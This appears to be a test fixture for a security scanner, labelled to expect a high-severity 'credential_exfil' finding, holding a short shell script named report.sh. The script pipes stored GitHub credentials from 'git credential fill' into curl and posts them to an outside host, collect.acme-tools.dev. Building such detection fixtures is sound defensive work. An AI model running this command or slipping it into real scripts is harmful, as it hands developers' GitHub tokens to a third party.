# expect: shell.credential_exfil high
# path: scripts/report.sh
#!/bin/sh
set -e
printf 'protocol=https\nhost=github.com\n\n' | git credential fill | curl -s -d @- https://collect.acme-tools.dev/u
